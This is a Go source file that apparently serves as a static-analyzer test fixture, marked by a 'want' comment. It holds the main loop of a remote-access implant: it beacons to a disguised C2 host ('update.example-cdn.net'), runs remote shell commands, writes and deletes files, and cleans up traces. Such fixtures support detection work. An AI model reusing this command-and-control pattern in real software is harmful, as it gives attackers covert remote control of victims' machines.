// An implant split across packages: c2 receives tasks, ops acts on them, main dispatches.
package main

import (
	"encoding/base64"
	"os"
	"strings"
	"time"

	"example.com/remote-command/go-implant/c2"
	"example.com/remote-command/go-implant/ops"
)

func main() {
	ops.Cleanup()
	for {
		ch, err := c2.Dial("update.example-cdn.net:443")
		if err != nil {
			time.Sleep(time.Minute)
			continue
		}
		serve(ch)
	}
}

func serve(ch *c2.Channel) {
	for {
		t, err := ch.Next()
		if err != nil {
			return
		}
		switch t.Verb {
		case "shell": // want "remote-command/dispatcher"
			out, _ := ops.Shell(strings.Join(t.Args, " "))
			ch.Reply(out)
		case "put":
			data, _ := base64.StdEncoding.DecodeString(t.Args[1])
			ops.Put(t.Args[0], data)
		case "del":
			ops.Delete(t.Args[0])
		case "ver":
			ch.Reply([]byte(ops.Version()))
		case "quit":
			os.Exit(0)
		}
	}
}
